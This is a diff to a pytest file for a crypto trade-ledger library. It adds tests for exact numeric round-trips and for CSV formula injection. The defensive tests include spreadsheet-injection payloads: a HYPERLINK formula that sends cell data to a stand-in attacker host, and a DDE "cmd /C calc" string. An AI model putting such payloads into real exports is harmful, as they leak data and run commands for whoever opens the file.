@@ -13,12 +13,26 @@ import pytest
 
 from catalog.core.errors import ValidationError
 from catalog.core.formats import csv_bytes, format_time, json_bytes
-from catalog.cryptorun.ledger import EXECUTION_COLUMNS, Portfolio, Position, Trade, executions_rows, validate_trades
+from catalog.cryptorun.ledger import (
+    EXECUTION_COLUMNS,
+    Portfolio,
+    Position,
+    Trade,
+    executions_rows,
+    read_executions,
+    validate_trades,
+)
+from catalog.cryptorun.writer import AtomicWriter
+
+from helpers import runnable_cells
 
 T = datetime(2024, 1, 15, 10, 30, 5, tzinfo=timezone.utc)
 NAN = float("nan")
 INF = float("inf")
 SYMBOLS = ["BTC-USD", "ETH-USD", "SOL-USD", "ADA-USD", "XRP-USD", "DOGE-USD", "DOT-USD", "LINK-USD"]
+#: Symbols a spreadsheet would run as formulas if written as they are (OWASP, "CSV Injection").
+FORMULA_SYMBOLS = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")', "@SUM(1+1)*cmd|' /C calc'!A0", "-X",
+                   "+1", "＝1+1", "'quoted"]  # fmt: skip
 
 
 def portfolio_data() -> dict[str, Any]:
@@ -221,6 +235,19 @@ def test_ints_are_accepted_and_stored_as_floats() -> None:
     assert trade == Trade(T, "BTC-USD", "sell", 2.0, 3.0, 0.0, "ord-1")
 
 
+def test_whole_numbers_a_float_would_round_stay_exact() -> None:
+    big = 2**64 - 1  # float(big) is 18446744073709551616.0
+    trade = Trade(T, "BTC-USD", "buy", big, 2**53 + 1, 2**53, "ord-1")
+    assert (trade.quantity, trade.price, trade.fee) == (big, 2**53 + 1, 2**53)
+    assert (type(trade.quantity), type(trade.price), type(trade.fee)) == (int, int, float)  # 2**53: a float holds it
+    assert Position("BTC-USD", big, 1, big).quantity == big
+    assert Trade.from_dict(trade_data(quantity=str(big))).quantity == big  # as read from CSV
+    with refused("quantity is not a finite number"):
+        Trade.from_dict(trade_data(quantity="9" * 400))  # beyond any float
+    with refused("quantity is not a finite number"):
+        Trade.from_dict(trade_data(quantity="9" * 5000))  # beyond Python's digit limit too
+
+
 NUMBER_FIELDS: dict[str, Callable[[Any], object]] = {
     "position-quantity": lambda v: Position("BTC-USD", v, 1.0, 1.0),
     "position-price": lambda v: Position("BTC-USD", 1.0, v, 1.0),
@@ -381,6 +408,36 @@ def test_executions_csv_reads_back_as_the_same_trades() -> None:
     assert validate_trades(csv.DictReader(io.StringIO(data.decode("utf-8")))) == trades
 
 
+def test_write_executions_keeps_crypto_amounts_exact(writer: AtomicWriter, base_dir: Any) -> None:
+    """Issue 14, case 1: a satoshi and a SHIB-BTC price were written as 0.000000 and could not be read back."""
+    trades = [
+        trade_data(quantity=0.00000001, fee=0.0),
+        trade_data(order_id="ord-00002", symbol="SHIB-BTC", quantity=1e9, price=0.00000000031, fee=0.1 + 0.2),
+        trade_data(order_id="ord-00003", quantity=2**64 - 1, price=1e-300, fee=5e-324),
+    ]
+    record = writer.write_executions("trades", trades)
+    data = (base_dir / record.path).read_bytes()
+    assert b",0.00000001,42000.000000,0.000000," in data and b",0.00000000031,0.30000000000000004," in data
+    assert b",18446744073709551615," in data
+    again = read_executions(data)
+    assert again == validate_trades(trades) and again[2].quantity == 2**64 - 1
+
+
+@pytest.mark.parametrize("symbol", FORMULA_SYMBOLS)
+def test_formula_text_in_an_execution_log_never_runs_and_reads_back(writer: AtomicWriter, base_dir: Any, symbol: str) -> None:
+    trades = validate_trades([trade_data(symbol=symbol, order_id="-1+cmd|' /C calc'!A0")])
+    data = (base_dir / writer.write_executions("trades", trades).path).read_bytes()
+    assert runnable_cells(data) == []
+    assert read_executions(data) == trades
+
+
+def test_read_executions_refuses_a_header_that_is_not_the_columns() -> None:
+    with refused("execution row 1: missing fee"):
+        read_executions(b"time,symbol,side,quantity,price,order_id\n2024-01-15T10:30:05Z,BTC,buy,1,1,o1\n")
+    with refused("execution log row 1 has 2 cells; the header has 7"):
+        read_executions(csv_bytes([list(EXECUTION_COLUMNS), ["a", "b"]]))
+
+
 def test_executions_rows_refuses_bad_trades() -> None:
     with refused("execution row 2 (order ord-00002): fee -1.0 is negative"):
         executions_rows([trade_data(), trade_data(order_id="ord-00002", fee=-1)])
@@ -484,10 +541,11 @@ def random_trades(rng: random.Random) -> list[Trade]:
         trades.append(
             Trade(
                 time=start + timedelta(microseconds=rng.randint(0, 10**10)),
-                symbol=rng.choice(SYMBOLS),
+                symbol=rng.choice(SYMBOLS + FORMULA_SYMBOLS),
                 side=rng.choice(["buy", "sell"]),
-                quantity=rng.choice([rng.uniform(1e-8, 1e3), rng.randint(1, 100)]),
-                price=rng.choice([rng.uniform(0, 1e5), rng.randint(0, 1000), 0.0]),
+                quantity=rng.choice([rng.uniform(1e-8, 1e3), rng.randint(1, 100), rng.uniform(0, 1e-8) or 1e-8,
+                                     rng.randint(2**53, 2**70)]),  # fmt: skip
+                price=rng.choice([rng.uniform(0, 1e5), rng.randint(0, 1000), 0.0, rng.uniform(0, 1e-9)]),
                 fee=rng.choice([rng.uniform(0, 10), 0]),
                 order_id=f"ord-{number:05d}",
             )
@@ -527,6 +585,8 @@ def test_generated_trade_logs_validate_round_trip_and_refuse_every_mutation() ->
         assert validate_trades(rows) == trades
         assert validate_trades([dict(zip(EXECUTION_COLUMNS, trade.to_row())) for trade in trades]) == trades
         assert executions_rows(trades)[1:] == [trade.to_row() for trade in trades]
+        written = csv_bytes(executions_rows(trades), rng.randrange(18))  # any csv_precision
+        assert read_executions(written) == trades and runnable_cells(written) == []
         for name, (column, bad_value, fragment) in TRADE_MUTATIONS.items():
             index = rng.randrange(len(rows))
             bad = [dict(row) for row in rows]
